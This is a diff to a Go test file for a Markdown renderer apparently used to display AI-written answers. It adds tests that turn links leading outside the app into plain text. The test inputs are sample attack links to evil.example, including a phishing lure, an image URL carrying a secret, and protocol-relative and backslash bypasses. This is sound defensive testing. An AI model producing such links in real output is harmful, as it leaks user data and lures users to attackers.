@@ -59,6 +59,23 @@ func assertSafe(t *testing.T, out string) {
 	}
 }
 
+// assertOnlyInAppLinks fails on a link to anything but a fragment or a path of this server.
+func assertOnlyInAppLinks(t *testing.T, out string) {
+	t.Helper()
+	z := html.NewTokenizer(strings.NewReader(out))
+	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
+		tok := z.Token()
+		if tok.Data != "a" || (tt != html.StartTagToken && tt != html.SelfClosingTagToken) {
+			continue
+		}
+		for _, a := range tok.Attr {
+			if a.Key == "href" && !(strings.HasPrefix(a.Val, "#") || strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") && !strings.ContainsRune(a.Val, '\\')) {
+				t.Errorf("a link out of the app: %s", out)
+			}
+		}
+	}
+}
+
 func TestRenderMarkdownNeverPassesActiveContent(t *testing.T) {
 	for _, p := range xssPayloads {
 		t.Run(p.name, func(t *testing.T) {
@@ -97,7 +114,7 @@ func TestCitationMarkersBecomeLinks(t *testing.T) {
 		{"single", "600 EUR [1].", []string{`href="#cite-t-1"`}},
 		{"list", "both [1, 2]", []string{`href="#cite-t-1"`, `href="#cite-t-2"`}},
 		{"adjacent", "both [2][4]", []string{`href="#cite-t-2"`, `href="#cite-t-4"`}},
-		{"link text left alone", "[1](https://example.org)", []string{`href="https://example.org"`}},
+		{"in-app link text left alone", "[1](/documents/d1)", []string{`href="/documents/d1"`}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -111,11 +128,61 @@ func TestCitationMarkersBecomeLinks(t *testing.T) {
 	}
 }
 
+// Issue 21, item 3: links the model writes that lead outside Hopwise are shown as text with the full
+// address; only citations and in-app links stay links.
+func TestOutsideLinksAreText(t *testing.T) {
+	tests := []struct{ name, md, wantText string }{
+		{"lure", "[Claim your money here](http://evil.example/claim?passport=123)", "Claim your money here (http://evil.example/claim?passport=123)"},
+		{"image leaking a secret", "![x](http://evil.example/p.png?c=SECRET)", "image: x (http://evil.example/p.png?c=SECRET)"},
+		{"autolink", "<http://evil.example/auto?a=1&b=2>", "http://evil.example/auto?a=1&b=2"},
+		{"protocol-relative", "[see](//evil.example/x)", "see (//evil.example/x)"},
+		{"backslash read as //", `[see](/\evil.example/x)`, `see (/\evil.example/x)`},
+		{"a citation look-alike", "as shown [9](http://evil.example/nine).", "as shown 9 (http://evil.example/nine)."},
+		{"reference link", "[here][r]\n\n[r]: https://evil.example/ref", "here (https://evil.example/ref)"},
+		{"mail", "<someone@evil.example>", "someone@evil.example"},
+		{"link around an image", "[![logo](https://evil.example/l.png)](https://evil.example/)", "image: logo (https://evil.example/l.png) (https://evil.example/)"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			out := RenderMarkdown(strings.ReplaceAll(tt.md, `\n`, "\n"), "cite-t-")
+			doc, err := html.Parse(strings.NewReader(out))
+			if err != nil {
+				t.Fatal(err)
+			}
+			var text strings.Builder
+			var walk func(*html.Node)
+			walk = func(n *html.Node) {
+				if n.Type == html.ElementNode && n.Data == "a" {
+					t.Errorf("a link reached the page: %s", out)
+				}
+				if n.Type == html.TextNode {
+					text.WriteString(n.Data)
+				}
+				for c := n.FirstChild; c != nil; c = c.NextSibling {
+					walk(c)
+				}
+			}
+			walk(doc)
+			if !strings.Contains(text.String(), tt.wantText) {
+				t.Errorf("text %q, want it to show %q", text.String(), tt.wantText)
+			}
+		})
+	}
+	kept := RenderMarkdown("600 EUR [1], see [the list](/documents) and [above](#cite-t-1).", "cite-t-")
+	for _, want := range []string{`href="#cite-t-1">[1]</a>`, `href="/documents"`, `href="#cite-t-1">above</a>`} {
+		if !strings.Contains(kept, want) {
+			t.Errorf("%s lost %s", kept, want)
+		}
+	}
+}
+
 func FuzzRenderMarkdown(f *testing.F) {
 	for _, p := range xssPayloads {
 		f.Add(p.md)
 	}
 	f.Fuzz(func(t *testing.T, md string) {
-		assertSafe(t, RenderMarkdown(md, "cite-t-"))
+		out := RenderMarkdown(md, "cite-t-")
+		assertSafe(t, out)
+		assertOnlyInAppLinks(t, out)
 	})
 }
